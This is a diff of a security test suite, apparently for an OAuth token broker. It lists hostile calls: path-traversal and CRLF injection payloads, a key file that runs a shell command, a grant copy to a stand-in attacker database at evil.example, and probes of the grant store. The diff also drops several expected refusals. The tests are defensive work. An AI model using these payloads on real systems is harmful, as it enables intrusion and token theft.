@@ -125,7 +125,8 @@ caller("It replaces the login by its own.", "importGrant", lambda s: {
     "account": "a", "format": "json", "data": {"access_token": "mine"}, "provider": "github", "clientId": "c", "replace": True}, "notAllowed")
 caller("It asks the user for more scopes.", "addScopes", {"account": "a", "scopes": ["admin"]}, "notAllowed")
 caller("It starts a sign-in that replaces the login.", "authorize", {"account": "a", "interaction": "always"}, "notAllowed")
-caller("It moves the key that seals the grants.", "rekey", {"to": "file"}, "notAllowed")
+caller("It moves the key that seals the grants.", "rekey", {"to": "file"})
+caller("It moves the grants to a database of its own.", "copy", {"to": "postgresql://evil.example/x"})
 caller("It hands over a redirect of its own.", "handleRedirect", {"url": "http://127.0.0.1:1/callback?code=x&state=y"}, "notAllowed")
 caller("It describes a provider whose token endpoint is its own server.", "authorize", lambda s: s.elsewhere.parameters(account="a"), "notAllowed")
 caller("It lets the process fetch metadata from its own server.", "provider", lambda s: {"provider": s.elsewhere.url}, "notAllowed")
@@ -135,6 +136,7 @@ caller("It calls a URL outside the rule.", "callAPI", lambda s: s.call("private"
 caller("It leaves the allowed path with dots.", "callAPI", lambda s: s.call("public/%2e%2e/private"), "notAllowed")
 caller("It leaves the allowed path with an escaped slash.", "callAPI", lambda s: s.call("public/..%2fprivate"), "notAllowed")
 caller("It leaves the allowed path with a backslash.", "callAPI", lambda s: s.call("public/..%5cprivate"), "notAllowed")
+caller("It leaves the allowed path with parameters of a segment.", "callAPI", lambda s: s.call("public/..;x=1/private"), "notAllowed")
 caller("It leaves the allowed path with an escape that is decoded twice.", "callAPI", lambda s: s.call("public/%252e%252e/private"), "notAllowed")
 caller("It sends a method that changes something.", "callAPI", lambda s: s.call(method="DELETE"), "notAllowed")
 caller("It hides the method in a header.", "callAPI", lambda s: s.call(headers={"X-HTTP-Method-Override": "DELETE"}), "notAllowed")
@@ -145,7 +147,6 @@ caller("It breaks the header lines.", "callAPI", lambda s: s.call(headers={"X": 
 caller("It breaks the request line with the method.", "callAPI", lambda s: s.call(method="GET / HTTP/1.1\r\nX:"))
 caller("It saves a body outside its folder.", "callAPI", lambda s: s.call(saveTo=str(s.folder / "secret"), overwrite=True), "notAllowed")
 caller("It saves a body over the grants.", "callAPI", lambda s: s.call(saveTo=str(s.store / "a.grant"), overwrite=True), "notAllowed")
-caller("It names a command as the place of the key.", "rekey", {"to": "command:id"})
 caller("It finds no method by another spelling.", "accesstoken", {"account": "a"})
 
 
@@ -160,6 +161,14 @@ def _(stage):
 def _(stage):
     peer = stage.peer("--no-tokens")
     stage.refused(peer, "callAPI", stage.call(method="POST", body={"file": str(stage.store / "key")}), "notAllowed")
+
+
+@attempt("caller", "It writes a folder whose key runs a command, and moves grants from there.")
+def _(stage):
+    (stage.folder / "other").mkdir(mode=0o700)
+    (stage.folder / "other" / "key").write_text(f"oauth-stdio key 1 command touch {stage.folder}/ran\n")
+    stage.refused(stage.peer(), "copy", {"from": str(stage.folder / "other")})
+    assert not (stage.folder / "ran").exists()
 
 
 @attempt("caller", "It reads the secrets of the process from /proc.")
@@ -339,6 +348,7 @@ def echo(request):
 
 
 token_answer("It quotes the code and the verifier in its error.", lambda s: echo, "authorizationServerError", "accessDenied")
+token_answer("It quotes a token in an error with status 200.", lambda s: Response.of({"error": s.provider.secret(), "error_description": s.provider.secret()}), "authorizationServerError")
 token_answer("It redirects the token request, with the code, to another server.", lambda s: Response(307, headers={"Location": s.elsewhere.url + "/token"}), "authorizationServerError", "responseUntrusted")
 token_answer("It answers with a page instead of tokens.", Response(200, b"<html>", {"Content-Type": "text/html"}), "authorizationServerError", "responseUntrusted")
 token_answer("It sends a token with line ends, which would break the headers of calls.", Response.of({"access_token": "a\r\nX: y", "token_type": "Bearer"}), "authorizationServerError", "responseUntrusted")
